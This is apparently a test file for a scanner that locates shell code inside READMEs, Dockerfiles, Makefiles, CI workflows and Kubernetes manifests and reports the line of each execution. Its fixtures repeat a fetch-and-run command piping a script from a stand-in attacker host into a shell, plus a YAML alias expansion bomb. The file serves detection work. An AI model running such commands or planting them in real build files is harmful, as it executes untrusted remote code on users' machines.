"""Where a text file keeps its shell, and that line numbers survive the extraction (shell/programs)."""

from __future__ import annotations

import pytest

from app.core.scanners.text_rules.shell.flow import Flow
from app.core.scanners.text_rules.shell.programs import programs

URL = "https://attacker.example/x.sh"


def _runs(path: str, text: str) -> list[int]:
    flow = Flow()
    for first, script in programs(path, text):
        flow.run_script(script, first)
    return [e.row + 1 for e in flow.executions]


FILES = [
    ("README.md", f"# Card\n\nprose `curl`\n\n```bash\nexport U={URL}\n```\n\nMore.\n\n"
     "```console\n$ curl $U | sh\n```\n", 12),
    ("Dockerfile", f"FROM ubuntu\nARG U={URL}\nRUN apt-get update && \\\n    curl -s $U | bash\n", 4),
    ("Dockerfile", f'FROM ubuntu\nRUN ["sh", "-c", "curl -s {URL} | sh"]\n', 2),
    ("Makefile", f"serve:\n\t@curl -s {URL} | sh\n", 2),
    (".github/workflows/ci.yml",
     f"jobs:\n  a:\n    steps:\n      - run: |\n          echo hi\n          curl -s {URL} | bash\n", 6),
    ("k8s.yaml", f'spec:\n  containers:\n  - command: ["sh", "-c", "curl -s {URL} | sh"]\n', 3),
    ("install", f"#!/usr/bin/env bash\nset -e\ncurl -s {URL} | bash\n", 3),
    ("setup_env", f"export A=1\ncurl -s {URL} -o a\nbash a\n", 3),  # no shebang, reads as commands
    ("job.sbatch", f"#!/bin/bash\n#SBATCH -N 1\nsrun bash -c \"$(curl -s {URL})\"\n", 3),
]


@pytest.mark.parametrize(("path", "text", "line"), FILES, ids=[f"{f[0]}-{i}" for i, f in enumerate(FILES)])
def test_each_file_kind_keeps_its_shell_and_its_line_numbers(path: str, text: str, line: int) -> None:
    assert _runs(path, text)[:1] == [line]


def test_prose_and_non_shell_fences_are_not_programs() -> None:
    card = f"Run `curl {URL} | sh` at your own risk.\n\n```python\nprint('curl {URL} | sh')\n```\n"
    assert _runs("README.md", card) == []


def test_yaml_aliases_are_not_walked_again_and_again() -> None:
    bomb = "a: &a [run, run, run, run, run, run, run, run, run]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
        for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    assert programs("ci.yml", bomb) == []


def test_make_variables_are_expanded_as_make_hands_recipes_to_the_shell() -> None:
    makefile = f"RUNNER := bash\nsetup:\n\tcurl -fsSL {URL} | $(RUNNER)\nserve:\n\tcurl -fsSL {URL} | $(SHELL)\n"
    assert _runs("Makefile", makefile) == [3, 5]


def test_text_that_is_not_shell_parses_in_linear_time_and_keeps_its_line_numbers() -> None:
    # A prompt template in an unlabeled fence (Llama 4's prompt_format.md): tree-sitter's error recovery
    # is quadratic in such text, so it is parsed statement run by statement run (shell/chunks).
    template = "<|header_start|>user<|header_end|> <|patch|>\n" * 4000
    card = f"```\n{template}```\n\n```bash\ncurl -s {URL} | sh\n```\n"
    assert _runs("README.md", card) == [4005]
